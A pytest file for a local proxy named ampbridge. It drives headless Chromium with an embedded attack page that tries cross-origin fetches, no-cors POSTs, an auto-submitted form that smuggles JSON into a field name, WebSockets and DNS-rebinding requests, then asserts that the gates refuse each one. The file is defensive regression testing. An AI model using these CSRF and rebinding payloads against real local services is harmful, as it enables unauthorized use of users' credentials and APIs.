"""A real browser attacks ampbridge: headless Chromium opens a page of another loopback origin
(another port, or a rebound DNS name) whose script tries what issue 11 found: fetch with and
without credentials, a no-cors ``text/plain`` POST, an auto-submitted form and a WebSocket,
against the control plane, a model route, the actor gateway and a browser route. The host and
cross-site gates refuse each, and the fake Amp upstream records that nothing arrived; Amp-CLI-like
requests and a top-level navigation to the login page still go through."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import httpx
import pytest

from ampbridge.cli import server_options
from ampbridge.standalone import create_app

from .chromium import Chromium, require_chromium
from .conftest import provider_settings
from .servers import RecordingServer, ServerThread, eventually, read_all, respond

AMP_KEY = "sk-amp-user-key-0123456789"


class Observed:
    """Wraps an ASGI app and notes each request's host, path and answer status."""

    def __init__(self, app) -> None:
        self.app = app
        self.answers: list[tuple[str, str, str, int]] = []

    async def __call__(self, scope, receive, send):
        if scope["type"] not in ("http", "websocket"):
            await self.app(scope, receive, send)
            return
        host = dict(scope["headers"]).get(b"host", b"").decode()
        kind = scope.get("method", "WEBSOCKET")

        async def noting_send(message):
            if message["type"] in ("http.response.start", "websocket.http.response.start"):
                self.answers.append((kind, host, scope["path"], message["status"]))
            elif message["type"] == "websocket.accept":
                self.answers.append((kind, host, scope["path"], 101))
            await send(message)

        await self.app(scope, receive, noting_send)


ATTACK_PAGE = """<!doctype html><html><body><iframe name="sink"></iframe><script>
const target = "__TARGET__";
const results = {};
async function attempt(name, run) {
  try { results[name] = await Promise.race([run(), new Promise(r => setTimeout(() => r("timeout"), 5000))]); }
  catch (error) { results[name] = "error:" + error.name; }
}
const read = async (response) => "read:" + response.status + ":" + (await response.text()).slice(0, 200);
const paths = {internal: "/api/internal?getUserInfo", messages: "/api/provider/anthropic/v1/messages",
               chat: "/v1/chat/completions", threads: "/threads/T-1234",
               actors: "/actors/gateway/threadActor/request/x"};
function socket(path) {
  return new Promise((resolve) => {
    const ws = new WebSocket(target.replace("http", "ws") + path, ["rivet"]);
    ws.onopen = () => { ws.send("hello"); resolve("open"); };
    ws.onclose = (event) => resolve("closed:" + event.code);
  });
}
function form(path) {
  return new Promise((resolve) => {
    const sink = document.querySelector("iframe");
    sink.onload = () => resolve("submitted");
    const f = document.createElement("form");
    f.method = "POST"; f.action = target + path; f.target = "sink"; f.enctype = "text/plain";
    const field = document.createElement("input");
    field.name = '{"model":"claude-opus-4-7","x":"'; field.value = '"}';
    f.appendChild(field); document.body.appendChild(f); f.submit();
  });
}
(async () => {
  for (const [name, path] of Object.entries(paths)) {
    await attempt(name + ":fetch", async () => read(await fetch(target + path)));
    await attempt(name + ":fetch-credentials", async () => read(await fetch(target + path, {credentials: "include"})));
    await attempt(name + ":no-cors-post", async () => {
      const r = await fetch(target + path, {method: "POST", mode: "no-cors", credentials: "include",
        headers: {"Content-Type": "text/plain"}, body: JSON.stringify({model: "claude-opus-4-7", messages: []})});
      return "opaque:" + r.type;
    });
    await attempt(name + ":cors-json-post", async () => read(await fetch(target + path, {method: "POST",
        headers: {"Content-Type": "application/json"}, body: "{}"})));
    await attempt(name + ":form", () => form(path));
  }
  for (const path of ["/actors/gateway/threadActor/websocket/?rvt-token=x", "/api/threads/live", "/auth/socket",
                      "/threads/T-1234"]) {
    await attempt("websocket:" + path, () => socket(path));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
  if (__NAVIGATE__) location.href = target + "/auth/cli-login?authToken=ab12&callbackPort=45678";
})();
</script></body></html>"""


class AttackerSite:
    """The web page's own server: serves the attack page and receives its report."""

    def __init__(self, target: str, *, navigate: bool) -> None:
        self.page = ATTACK_PAGE.replace("__TARGET__", target).replace("__NAVIGATE__", json.dumps(navigate))
        self.report: dict[str, str] = {}
        self.reported = threading.Event()

    async def __call__(self, scope, receive, send):
        if scope["type"] == "lifespan":
            while (await receive())["type"] != "lifespan.shutdown":
                await send({"type": "lifespan.startup.complete"})
            await send({"type": "lifespan.shutdown.complete"})
            return
        body = await read_all(receive)
        if scope["path"] == "/report":
            self.report = json.loads(body)
            self.reported.set()
            await respond(send, 204, b"")
        else:
            await respond(send, 200, self.page.encode(), content_type="text/html")


@pytest.fixture(params=["redirect", "proxy"])
def guarded_bridge(
    request: pytest.FixtureRequest, upstream: RecordingServer, backends: dict[str, RecordingServer]
) -> Iterator[tuple[ServerThread, Observed]]:
    """ampbridge as ``ampbridge serve`` builds it, with local backends and the Amp upstream, in
    both browser-route modes."""
    require_chromium()
    settings = provider_settings(
        backends, amp_upstream_url=upstream.url, amp_upstream_api_key=AMP_KEY, browser_routes=request.param
    )
    observed = Observed(create_app(settings=settings, environ={}, configure_logs=False))
    with ServerThread(observed, **server_options(settings)) as thread:
        thread.browser_routes = request.param
        yield thread, observed


def nothing_arrived(upstream: RecordingServer, backends: dict[str, RecordingServer]) -> bool:
    """Nothing reached the upstream or a backend (ampbridge's own model listing aside)."""
    model_calls = [
        r for server in backends.values() for r in server.requests if not r.path.endswith("/models")
    ]
    return not (upstream.requests or upstream.websockets or model_calls)


@contextmanager
def attack(target: str, *, navigate: bool = False, host: str = "127.0.0.1") -> Iterator[AttackerSite]:
    site = AttackerSite(target, navigate=navigate)
    with ServerThread(site) as server:
        page = f"http://{host}:{server.port}/"
        with Chromium(page, host_rules=f"MAP {host} 127.0.0.1" if host != "127.0.0.1" else None):
            assert site.reported.wait(90), "the attack page never reported"
            yield site


@pytest.mark.parametrize("page_host", ["127.0.0.1", "localhost"])
def test_a_page_of_another_loopback_origin_gets_nothing_through(
    guarded_bridge, upstream, backends, page_host
):
    """The page is on another port of 127.0.0.1 (same site: Chromium sends ``same-site``) or on
    ``localhost`` (cross-site)."""
    bridge, observed = guarded_bridge
    with attack(bridge.url, host=page_host) as site:
        report = site.report
    assert nothing_arrived(upstream, backends), "something reached the Amp upstream or a backend"
    assert len(report) == 29, report
    for name, outcome in report.items():
        assert not outcome.startswith(("read:", "open")), (name, outcome)  # nothing read, no socket opened
    for name in ("internal:fetch", "messages:cors-json-post", "threads:fetch-credentials"):
        assert report[name] == "error:TypeError"
    assert all(outcome == "closed:1006" for name, outcome in report.items() if name.startswith("websocket:"))
    statuses = {status for _, _, _, status in observed.answers}
    assert statuses == {403}, observed.answers  # the preflight-free requests got as far as the gate
    paths = {path for _, _, path, _ in observed.answers}
    assert {
        "/api/internal",
        "/api/provider/anthropic/v1/messages",
        "/v1/chat/completions",
        "/actors/gateway/threadActor/request/x",
        "/threads/T-1234",
        "/actors/gateway/threadActor/websocket/",
        "/auth/socket",
    } <= paths
    assert (
        "WEBSOCKET",
        f"127.0.0.1:{bridge.port}",
        "/actors/gateway/threadActor/websocket/",
        403,
    ) in observed.answers


def test_a_top_level_navigation_to_the_login_page_still_passes(guarded_bridge, upstream):
    """What ``amp login`` does: the browser opens ``/auth/cli-login`` in a tab. By default
    ampbridge sends it on to the upstream's own site; with ``browser-routes: proxy`` it serves
    the page itself. Either way the upstream sees the browser, never the Amp key."""
    bridge, observed = guarded_bridge
    with attack(bridge.url, navigate=True):
        navigation = ("GET", f"127.0.0.1:{bridge.port}", "/auth/cli-login")
        assert eventually(lambda: any(a[:3] == navigation for a in observed.answers), timeout=30)
        assert eventually(lambda: upstream.requests, timeout=30)
    assert [(r.method, r.path, r.query) for r in upstream.requests] == [
        ("GET", "/auth/cli-login", b"authToken=ab12&callbackPort=45678")
    ]
    (page,) = upstream.requests
    assert page.header("Authorization") is None and page.header("X-Api-Key") is None
    assert page.header("Sec-Fetch-Mode") == "navigate"
    assert not upstream.websockets
    expected = 302 if bridge.browser_routes == "redirect" else 200
    assert [a[3] for a in observed.answers if a[:3] == navigation] == [expected]


def test_a_rebound_dns_name_is_refused_by_host(guarded_bridge, upstream, backends):
    """attacker.test resolves to 127.0.0.1 (as after a DNS rebinding); the page's script talks
    to ampbridge's port under the attacker's name: every request is refused with 421."""
    bridge, observed = guarded_bridge
    with attack(f"http://attacker.test:{bridge.port}", host="attacker.test") as site:
        report = site.report
    assert nothing_arrived(upstream, backends)
    assert not any(outcome.startswith(("read:", "open")) for outcome in report.values()), report
    assert observed.answers
    assert {(host, status) for _, host, _, status in observed.answers} == {
        (f"attacker.test:{bridge.port}", 421)
    }


def test_a_same_origin_rebinding_request_is_refused_by_host(guarded_bridge, upstream):
    """After a real rebinding the page shares ampbridge's origin: the browser calls it
    same-origin, so only the Host header gives it away."""
    bridge, _ = guarded_bridge
    origin = f"http://attacker.test:{bridge.port}"
    headers = {
        "Host": f"attacker.test:{bridge.port}",
        "Origin": origin,
        "Sec-Fetch-Site": "same-origin",
        "Sec-Fetch-Mode": "cors",
    }
    response = httpx.get(f"{bridge.url}/api/internal?getUserInfo", headers=headers)
    assert response.status_code == 421
    assert response.json()["error"] == "misdirected_request"
    assert upstream.requests == []


def test_amp_cli_like_requests_pass(guarded_bridge, upstream):
    bridge, _ = guarded_bridge
    response = httpx.post(
        f"{bridge.url}/api/internal?getUserInfo",
        json={"method": "getUserInfo"},
        headers={"Authorization": "Bearer client-own-key", "User-Agent": "amp/0.0.1"},
    )
    assert response.status_code == 200
    assert [(r.method, r.path) for r in upstream.requests] == [("POST", "/api/internal")]
    assert upstream.requests[0].header("Authorization") == f"Bearer {AMP_KEY}"
